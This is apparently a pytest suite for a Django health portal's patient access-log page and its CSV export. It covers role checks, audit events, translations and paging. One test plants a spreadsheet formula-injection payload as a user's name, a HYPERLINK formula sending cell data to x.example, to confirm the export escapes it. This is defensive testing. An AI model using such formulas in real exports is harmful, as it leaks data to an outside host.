"""Who has read a patient's data: the access log a clinician of the patient's
organisation reads and exports when the patient asks — itself an audited read."""

from __future__ import annotations

import csv
import io

import pytest
from django.conf import settings
from django.utils import timezone

from pro_portal.models import AuditEvent
from tests import factories

pytestmark = pytest.mark.django_db


def _log_url(personas) -> str:
    return f"/patients/{personas.patient.public_id}/access-log/"


def _csv_url(personas) -> str:
    return f"/patients/{personas.patient.public_id}/access-log.csv"


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def test_a_clinician_sees_every_read_by_colleagues_with_role_what_and_when(
    personas, client
) -> None:
    colleague = factories.secretary(personas.organisation, first_name="Sanne", last_name="Holm")
    client.force_login(colleague)
    assert client.get(f"/patients/{personas.patient.public_id}/").status_code == 200

    client.force_login(personas.clinician)
    html = client.get(_log_url(personas)).content.decode()
    name = html.index("Sanne Holm")
    row = html[html.rindex("<tr>", 0, name) : html.index("</tr>", name)]
    assert "Sekretær" in row  # the role, in Danish by default
    assert "Åbnede patientens side" in row  # what: the patient's page
    opened = AuditEvent.objects.get(action="patient.view", actor=colleague)
    assert f"{timezone.localtime(opened.at):%H:%M:%S}" in row  # when


def test_the_log_reads_in_english_too(personas, client) -> None:
    client.force_login(personas.secretary)
    client.get(f"/patients/{personas.patient.public_id}/")
    client.force_login(personas.clinician)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    html = client.get(_log_url(personas)).content.decode()
    assert "Who has read Karen Kanarie's data" in html
    assert "Opened the patient&#x27;s page" in html
    assert "Secretary" in html


@pytest.mark.parametrize("who", ["secretary", "admin", "outsider_clinician"])
def test_other_roles_and_other_organisations_get_404_and_read_nothing(
    personas, client, who: str
) -> None:
    client.force_login(getattr(personas, who))
    assert client.get(_log_url(personas)).status_code == 404
    assert client.get(_csv_url(personas)).status_code == 404
    assert not AuditEvent.objects.filter(action__startswith="access_log.").exists()


def test_the_patient_page_links_the_log_only_for_those_who_may_read_it(personas, client) -> None:
    page = f"/patients/{personas.patient.public_id}/"
    client.force_login(personas.clinician)
    assert _log_url(personas) in client.get(page).content.decode()
    client.force_login(personas.secretary)
    html = client.get(page).content.decode()
    assert "Karen Kanarie" in html
    assert _log_url(personas) not in html


def test_the_export_is_itself_audited_and_appears_in_the_next_view(personas, client) -> None:
    client.force_login(personas.clinician)
    export = client.get(_csv_url(personas))
    assert export.status_code == 200
    assert export["Content-Type"].startswith("text/csv")
    assert "Karen" not in export["Content-Disposition"]  # no patient data in the file name
    event = AuditEvent.objects.get(action="access_log.export")
    assert (event.actor, event.patient) == (personas.clinician, personas.patient)
    html = client.get(_log_url(personas)).content.decode()
    assert "Eksporterede denne adgangslog" in html
    assert "Læste denne adgangslog" in html  # this view too, at the top


def test_the_export_has_every_read_as_rows(personas, client) -> None:
    client.force_login(personas.secretary)
    client.get(f"/patients/{personas.patient.public_id}/")
    client.force_login(personas.clinician)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    rows = _csv(client.get(_csv_url(personas)))
    assert rows[0] == ["When", "Who", "Role", "What"]
    whats = [row[3] for row in rows[1:]]
    assert whats == ["Exported this access log", "Opened the patient's page"]
    assert rows[2][2] == "Secretary"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_no_cell_of_the_export_starts_a_formula(personas, client, start: str) -> None:
    sneaky = factories.secretary(
        personas.organisation, first_name=f'{start}HYPERLINK("http://x.example/?"&A1)'
    )
    client.force_login(sneaky)
    client.get(f"/patients/{personas.patient.public_id}/")
    client.force_login(personas.clinician)
    rows = _csv(client.get(_csv_url(personas)))
    cells = [cell for row in rows for cell in row]
    assert f"'{start}HYPERLINK" in " ".join(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_a_page_number_out_of_range_or_not_a_number_is_no_error(personas, client) -> None:
    client.force_login(personas.clinician)
    for page in ("999", "x", "-1", "9" * 5000):
        assert client.get(_log_url(personas), {"page": page}).status_code == 200


def test_reads_by_the_patient_a_tablet_and_the_system_are_named_so(personas, client) -> None:
    from pro_portal.audit import audit_record
    from pro_portal.models import Kiosk

    kiosk = Kiosk.objects.create(
        organisation=personas.organisation,
        name="Venteværelset",
        token_hash="0" * 64,
        created_by=personas.admin,
    )
    audit_record(action="invitation.open", patient=personas.patient, actor_kind="patient")
    audit_record(action="kiosk.open", kiosk=kiosk, patient=personas.patient)
    audit_record(action="something.new", patient=personas.patient)
    client.force_login(personas.clinician)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    rows = _csv(client.get(_csv_url(personas)))
    assert [row[1:] for row in rows[2:]] == [
        ["PRO Portal (automatic)", "", "something.new"],  # an action without a text: as stored
        [
            "Waiting-room tablet “Venteværelset”",
            "",
            "Opened the questionnaires on a waiting-room tablet",
        ],
        ["The patient", "", "Opened the invitation link"],
    ]


def test_a_long_log_is_paged_newest_first(personas, client) -> None:
    from scoring.access_log import ROWS_PER_PAGE

    AuditEvent.objects.bulk_create(
        AuditEvent(
            action="worklist.view",
            actor_kind="staff",
            actor=personas.secretary,
            patient=personas.patient,
            organisation=personas.organisation,
        )
        for _ in range(ROWS_PER_PAGE)
    )
    client.force_login(personas.clinician)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    first = client.get(_log_url(personas)).content.decode()
    assert "Page 1 of 2" in first
    assert "Read this access log" in first  # the newest read is this one
    second = client.get(_log_url(personas), {"page": "2"}).content.decode()
    assert "Page 2 of 2" in second
    # 100 worklist reads and two reads of the log: the oldest two on page 2.
    assert second.count("Saw the patient on the worklist") == 2
    assert "Read this access log" not in second
